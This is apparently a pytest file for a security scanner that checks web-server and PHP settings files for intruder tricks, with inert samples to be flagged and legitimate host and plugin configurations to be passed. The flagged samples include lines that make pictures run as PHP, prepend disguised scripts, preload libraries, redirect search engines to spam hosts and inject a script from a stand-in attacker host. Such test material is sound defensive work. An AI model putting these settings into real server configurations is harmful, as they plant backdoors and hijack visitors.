"""Settings of web servers and of PHP: inert samples of what intruders write, and what hosts and plugins write."""

import pytest

from scanners.engine import AuditedFile, Opinion
from scanners.server.judgement import MAX_BYTES, ServerEngine
from sentry.domain.finding import Evidence, FindingClass

ENGINE = ServerEngine()
HTACCESS, INI, IIS, NGINX, WORDPRESS = ".htaccess", ".user.ini", "web.config", "nginx.conf", "wp-config.php"


def judge(path: str, text: str) -> Opinion:
    """Returns what is said of a file."""
    return ENGINE.judge(AuditedFile(path, text.encode()), lambda: False)


FITS = {
    "pictures are run": (HTACCESS, "AddHandler application/x-httpd-php .jpg .png", "settings_run_pictures"),
    "over two lines": (HTACCESS, "AddType \\\n application/x-httpd-php \\\n .gif", "settings_run_pictures"),
    "in a section": (
        HTACCESS,
        '<FilesMatch "\\.(jpe?g|ico)$">\nSetHandler application/x-httpd-php\n</FilesMatch>',
        "settings_run_pictures",
    ),
    "one picture": (
        HTACCESS,
        "<Files logo.png>\nForceType application/x-httpd-php\n</Files>",
        "settings_run_pictures",
    ),
    "by fpm": (
        HTACCESS,
        '<FilesMatch \\.txt$>\nSetHandler "proxy:unix:/run/php.sock|fcgi://localhost"\n</FilesMatch>',
        "settings_run_pictures",
    ),
    "a strange extension": (HTACCESS, "addhandler cgi-script .alfa\nOptions +ExecCGI", "settings_run_strange_names"),
    "everything": (HTACCESS, "SetHandler application/x-httpd-php", "settings_run_everything"),
    "uploads": ("wp-content/uploads/.htaccess", "php_flag engine on", "settings_run_uploads"),
    "uploads by name": (
        "wp-content/uploads/.htaccess",
        "AddType application/x-httpd-php .php",
        "settings_run_uploads",
    ),
    "code": (HTACCESS, "php_value auto_prepend_file .htaccess\n# <?php echo 1; ?>", "settings_hold_code"),
    "itself": (HTACCESS, "php_value auto_append_file .htaccess", "settings_prepend_disguised_script"),
    "a preloaded library": (HTACCESS, "SetEnv LD_PRELOAD /home/x/a.so", "settings_load_into_programs"),
    "linked sources": (
        HTACCESS,
        "Options all\nDirectoryIndex x.html\nAddType text/plain .php\nAddHandler server-parsed .php",
        "settings_show_linked_source",
    ),
    "a picture as index": (HTACCESS, "DirectoryIndex favicon.ico", "settings_index_of_no_page"),
    "out of sight": (HTACCESS, "# a\n" + "\n" * 200 + "Options -Indexes", "settings_out_of_sight"),
    "far to the right": (HTACCESS, "# a\n" + " " * 300 + "Options -Indexes", "settings_out_of_sight"),
    "searchers": (
        HTACCESS,
        (
            "RewriteEngine On\nRewriteCond %{HTTP_REFERER} .*google.* [NC,OR]\n"
            "RewriteCond %{HTTP_REFERER} .*bing.* [NC]\nRewriteRule ^(.*)$ http://pills.example/?r=$1 [R=301,L]"
        ),
        "settings_send_searchers_away",
    ),
    "a search engine itself": (
        HTACCESS,
        "RewriteCond %{HTTP_USER_AGENT} (Googlebot|Slurp) [NC]\nRewriteRule . http://pills.example/ [L]",
        "settings_send_searchers_away",
    ),
    "a door for search engines": (
        HTACCESS,
        "RewriteCond %{HTTP_USER_AGENT} googlebot [NC]\nRewriteRule ^(.*)$ door.php?p=$1 [L]",
        "settings_other_page_for_searchers",
    ),
    "phones": (
        HTACCESS,
        "RewriteCond %{HTTP_USER_AGENT} android|iphone [NC]\nRewriteRule .* http://apk.example/ [R]",
        "settings_send_phones_away",
    ),
    "a bare address": (HTACCESS, "RewriteRule ^ http://93.184.216.34/in.php [R]", "settings_bare_address"),
    "errors": (
        HTACCESS,
        "\n".join(f"ErrorDocument {code} http://pills.example/in.php" for code in (400, 403, 404, 500)),
        "settings_all_errors_elsewhere",
    ),
    "changed pages": (
        HTACCESS,
        'Substitute "s|</head>|<script src=//evil.example/a.js></script></head>|i"',
        "settings_change_pages",
    ),
    "a refresh": (HTACCESS, 'Header set Refresh "0; url=http://pills.example/"', "settings_refresh"),
    "only an intruder's": (
        HTACCESS,
        (
            '<FilesMatch ".(py|exe|phtml|php|PHP|Php|PHp|suspected)$">\nOrder allow,deny\nDeny from all\n'
            "</FilesMatch>\n"
            '<FilesMatch "^(index.php|radio1.php|about9.php)$">\nOrder allow,deny\nAllow from all\n</FilesMatch>'
        ),
        "settings_keep_others_out",
    ),
    "every spelling": (
        HTACCESS,
        '<FilesMatch "\\.(php|PhP|pHp|suspected)$">\nDeny from all\n</FilesMatch>',
        "settings_forbid_every_spelling",
    ),
    "some strange ones": (
        HTACCESS,
        (
            "<Files *.php>\nRequire all denied\n</Files>\n"
            '<FilesMatch "^(index|lock360)\\.php$|^lock360.php$|^index.php$">\n'
            "Require all granted\n</FilesMatch>"
        ),
        "settings_only_named_scripts",
    ),
    "by another name": ("3f2a91", "AddHandler application/x-httpd-php .jpg", "settings_run_pictures"),
    "a disguised prepend": (INI, "; x\nauto_prepend_file = /var/www/a/logo.ico", "settings_prepend_disguised_script"),
    "a hidden prepend": (INI, 'auto_prepend_file = "/home/a/.cache.php"', "settings_prepend_disguised_script"),
    "a prepend in /tmp": ("php.ini", "auto_append_file=/tmp/sess_1", "settings_prepend_disguised_script"),
    "of the request": (INI, "auto_prepend_file = php://input", "settings_prepend_disguised_script"),
    "a prepend": (INI, "auto_prepend_file = /home/a/public_html/wp-inc.php", "settings_prepend_script"),
    "by another name too": ("91ac", "auto_prepend_file=a.gif\n", "settings_prepend_disguised_script"),
    "foreign code": (INI, "allow_url_include = On", "settings_foreign_code"),
    "unlocked": ("php.ini", "safe_mode = off\ndisable_functions = NONE", "settings_unlocked"),
    "a library": ("php.ini", "extension=/tmp/x.so", "settings_strange_extension"),
    "mail": ("php.ini", "sendmail_path = /home/a/collect.sh -t", "settings_mail_elsewhere"),
    "mail and more": ("php.ini", "sendmail_path = '/usr/sbin/sendmail -t | tee /tmp/m'", "settings_mail_elsewhere"),
    "a log": (INI, "error_log = /var/www/a/log.php", "settings_log_is_script"),
    "a callback": (INI, "unserialize_callback_func = system", "settings_dangerous_callback"),
    "code in iis": (IIS, '<configuration/>\n<%@ Language="x" %>', "settings_hold_code"),
    "pictures in iis": (
        IIS,
        '<add name="x" path="*.jpg" verb="*" modules="FastCgiModule" scriptProcessor="php-cgi.exe"/>',
        "settings_run_pictures",
    ),
    "settings in iis": (
        IIS,
        '<hiddenSegments><remove segment="web.config" /></hiddenSegments>',
        "settings_config_readable",
    ),
    "searchers in iis": (
        IIS,
        (
            '<rule name="a"><conditions><add input="{HTTP_REFERER}" pattern="google|bing"/></conditions>'
            '<action type="Redirect" url="http://pills.example/"/></rule>'
        ),
        "settings_send_searchers_away",
    ),
    "pictures in nginx": (NGINX, "location ~ \\.(jpg|png)$ { fastcgi_pass php; }", "settings_run_pictures"),
    "searchers in nginx": (
        NGINX,
        'if ($http_referer ~* "(google|bing)") { return 302 http://pills.example/; }',
        "settings_send_searchers_away",
    ),
    "scripts in nginx": (NGINX, "sub_filter '</head>' '<script src=//evil.example/a.js>';", "settings_change_pages"),
    "a prepend in nginx": (
        NGINX,
        'location ~ \\.php$ { fastcgi_param PHP_VALUE "auto_prepend_file=/tmp/a.php"; }',
        "settings_prepend_disguised_script",
    ),
    "wordpress runs a picture": (
        WORDPRESS,
        "<?php\ninclude '/var/www/a/wp-includes/logo.png';\nrequire_once ABSPATH . 'wp-settings.php';",
        "wp_config_runs_disguised_file",
    ),
    "wordpress runs a hidden name": (WORDPRESS, '<?php\n@include "\\x2fvar\\x2fa";', "wp_config_hidden_name"),
    "wordpress runs a file": (WORDPRESS, "<?php\nrequire 'extra/loader.php';", "wp_config_runs_file"),
    "wordpress and then more": (
        WORDPRESS,
        "<?php\nrequire_once(ABSPATH . 'wp-settings.php');\n$x = $_POST['inert'];",
        "wp_config_acts_at_end",
    ),
}


@pytest.mark.parametrize(("path", "text", "rule"), FITS.values(), ids=FITS)
def test_setting_of_an_intruder_is_seen(path: str, text: str, rule: str) -> None:
    """Each trick has its sign, with its line."""
    signs = {sign.rule: sign for sign in judge(path, text).signs}

    assert rule in signs
    assert signs[rule].evidence is Evidence.SETTING
    assert signs[rule].way[0].number >= 1


WORDPRESS_BLOCK = """# BEGIN WordPress
<IfModule mod_rewrite.c>
RewriteEngine On
RewriteRule .* - [E=HTTP_AUTHORIZATION:%{HTTP:Authorization}]
RewriteBase /
RewriteRule ^index\\.php$ - [L]
RewriteCond %{REQUEST_FILENAME} !-f
RewriteCond %{REQUEST_FILENAME} !-d
RewriteRule . /index.php [L]
</IfModule>
# END WordPress"""
FIREWALL_BLOCK = """<IfModule mod_php7.c>
php_value auto_prepend_file '/var/www/a/wordfence-waf.php'
</IfModule>
<Files ".user.ini">
<IfModule mod_authz_core.c>
Require all denied
</IfModule>
</Files>"""
CACHE_BLOCK = """<IfModule mod_mime.c>
AddType text/css .css
AddType application/x-javascript .js
AddType image/x-icon .ico
AddType image/png .png
</IfModule>
<IfModule mod_deflate.c>
AddOutputFilterByType DEFLATE text/css text/html
</IfModule>
<IfModule mod_rewrite.c>
RewriteEngine On
RewriteCond %{HTTP_USER_AGENT} !(facebookexternalhit|google) [NC]
RewriteCond "%{DOCUMENT_ROOT}/wp-content/cache/page_enhanced/%{HTTP_HOST}/_index.html" -f
RewriteRule .* "/wp-content/cache/page_enhanced/%{HTTP_HOST}/_index.html" [L]
</IfModule>"""

HARMLESS = {
    "wordpress": (HTACCESS, WORDPRESS_BLOCK),
    "a firewall": (HTACCESS, FIREWALL_BLOCK),
    "a firewall's ini": (INI, "; Wordfence WAF\nauto_prepend_file = '/var/www/a/wordfence-waf.php'\n; END"),
    "a page cache": (HTACCESS, CACHE_BLOCK),
    "a host's php": (
        HTACCESS,
        "<IfModule mime_module>\n  AddHandler application/x-httpd-ea-php81 .php .php8 .phtml\n</IfModule>",
    ),
    "php by fpm": (
        HTACCESS,
        '<FilesMatch "\\.ph(p[2-6]?|tml)$">\nSetHandler "proxy:unix:/run/php.sock|fcgi://localhost"\n</FilesMatch>',
    ),
    "php by litespeed": (
        HTACCESS,
        '<FilesMatch "\\.(php4|php5|php|phtml)$">\nSetHandler application/x-lsphp81\n</FilesMatch>',
    ),
    "uploads without scripts": (
        "wp-content/uploads/.htaccess",
        "php_flag engine off\nRemoveHandler .php\nAddType text/plain .php .phtml\nOptions -ExecCGI",
    ),
    "programs forbidden by a trick": (
        HTACCESS,
        "AddHandler cgi-script .php .pl .py .jsp .sh .cgi\nOptions -ExecCGI",
    ),
    "mediawiki's pictures": (
        "images/.htaccess",
        (
            "<IfModule rewrite_module>\nRewriteEngine On\n"
            "RewriteCond %{QUERY_STRING} \\.[^\\\\/:*?\\x22<>|%]+(#|\\?|$) [nocase]\n"
            "RewriteRule . - [forbidden]\n</IfModule>"
        ),
    ),
    "hotlinks": (
        HTACCESS,
        (
            "RewriteCond %{HTTP_REFERER} !^$\nRewriteCond %{HTTP_REFERER} !google\\.\n"
            "RewriteRule \\.(jpe?g|png)$ https://static.example/none.gif [R]"
        ),
    ),
    "spam referrers": (HTACCESS, "RewriteCond %{HTTP_REFERER} google-spam\\.example [NC]\nRewriteRule .* - [F]"),
    "https": (HTACCESS, "RewriteCond %{HTTPS} off\nRewriteRule (.*) https://%{HTTP_HOST}%{REQUEST_URI} [R=301]"),
    "a condition of another rule": (
        HTACCESS,
        (
            "RewriteCond %{HTTP_USER_AGENT} googlebot\nRewriteRule ^a - [L]\n"
            "RewriteRule ^old$ https://www.site.example/new [R]"
        ),
    ),
    "an own site for phones": (
        HTACCESS,
        "RewriteCond %{HTTP_USER_AGENT} iphone|android\nRewriteRule .* https://m.shop.example/ [R]",
    ),
    "a renderer": (
        HTACCESS,
        "RewriteCond %{HTTP_USER_AGENT} googlebot|bingbot\nRewriteRule ^(.*)$ https://service.prerender.io/$1 [P]",
    ),
    "own error pages": (HTACCESS, "ErrorDocument 404 /404.html\nErrorDocument 500 default"),
    "hardening": (
        HTACCESS,
        (
            '<FilesMatch "\\.(?i:php)$">\nRequire all denied\n</FilesMatch>\n<Files wp-tinymce.php>\n'
            "Require all granted\n</Files>"
        ),
    ),
    "everything forbidden": (HTACCESS, "Require all denied\nSatisfy All"),
    "indexes": (HTACCESS, "DirectoryIndex index.php index.html\nOptions -Indexes +FollowSymLinks"),
    "limits": (INI, "upload_max_filesize = 64M\nmemory_limit=256M\nerror_log = /home/a/logs/php_error.log"),
    "an emptied setting": (INI, "auto_prepend_file =\nauto_append_file = none"),
    "extensions": ("php.ini", 'extension=imagick.so\nzend_extension="/usr/local/ioncube/ioncube_loader.so"'),
    "usual mail": ("php.ini", 'sendmail_path = "/usr/sbin/sendmail -t -i"'),
    "php's own file": ("php.ini", "disable_functions =\nopen_basedir =\n" + "a.b = 1\n" * 100),
    "iis": (
        IIS,
        (
            '<handlers><add name="php" path="*.php" modules="FastCgiModule" scriptProcessor="p.exe"/>'
            '<add name="s" path="*.jpg" verb="*" modules="StaticFileModule" type="x"/></handlers>'
        ),
    ),
    "wordpress in iis": (
        IIS,
        (
            '<rule name="WordPress"><match url="*"/><conditions><add input="{REQUEST_FILENAME}" matchType="IsFile" '
            'negate="true"/></conditions><action type="Rewrite" url="index.php"/></rule>'
        ),
    ),
    "nginx": (
        NGINX,
        (
            "server { location / { try_files $uri /index.php; } location ~ \\.php$ { fastcgi_pass "
            "unix:/run/php.sock; } }"
        ),
    ),
    "wp-config": (
        WORDPRESS,
        (
            "<?php\n// include 'logo.png';\nif (!defined('ABSPATH')) define('ABSPATH', __DIR__ . '/');\n"
            "require_once ABSPATH . 'wp-settings.php';\n"
        ),
    ),
    "a text about settings": ("notes", "AddHandler application/x-httpd-php .jpg\nis what nobody should ever write."),
    "an example in a readme": ("readme.md", "AddHandler application/x-httpd-php .jpg"),
}


@pytest.mark.parametrize(("path", "text"), HARMLESS.values(), ids=HARMLESS)
def test_setting_of_hosts_and_plugins_is_not_seen(path: str, text: str) -> None:
    """Each was written by a well-known program or in its manual."""
    assert [sign.rule for sign in judge(path, text).signs] == []


def test_sign_names_line_and_text_of_the_setting() -> None:
    """The reader opens the file where it is; lines that were joined are named by the first."""
    (sign,) = judge(HTACCESS, "# one\n\nOptions -Indexes\nAddHandler \\\n  application/x-httpd-php .jpg").signs

    assert sign.verdict is FindingClass.CONFIRMED
    assert (sign.way[0].number, sign.way[0].text) == (4, "AddHandler   application/x-httpd-php .jpg")


def test_settings_beyond_the_limit_are_said_to_be_left_out() -> None:
    """A file of half a million bytes is looked at so far, and says so."""
    opinion = judge(HTACCESS, "Options -Indexes\n" * (MAX_BYTES // 10))

    assert opinion.left_out == "settings beyond 500,000 bytes"


def test_settings_that_are_no_text_do_not_break_the_engine() -> None:
    """Unclosed quotes, sections and bytes of any kind are read as far as they go."""
    opinion = ENGINE.judge(
        AuditedFile(HTACCESS, b'<Files "\xff\nSetHandler "\x00\n</Files>\n</Files>\n<>\n\\'), lambda: False
    )

    assert opinion.left_out is None
